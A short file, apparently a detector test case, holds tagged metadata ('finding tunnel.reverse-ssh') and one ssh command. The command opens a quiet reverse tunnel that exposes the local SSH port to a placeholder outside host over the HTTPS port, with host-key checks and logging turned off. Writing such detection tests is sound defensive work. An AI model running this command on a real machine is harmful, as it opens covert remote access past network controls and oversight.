# On the port of HTTPS, to a host that is open for it.
#: in watched
#: needs ssh
#: cut protocol strict.allowed.example:$PORT_BANNER
#: shared
#: finding tunnel.reverse-ssh
ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 8080:localhost:22 -p $PORT_BANNER a@strict.allowed.example
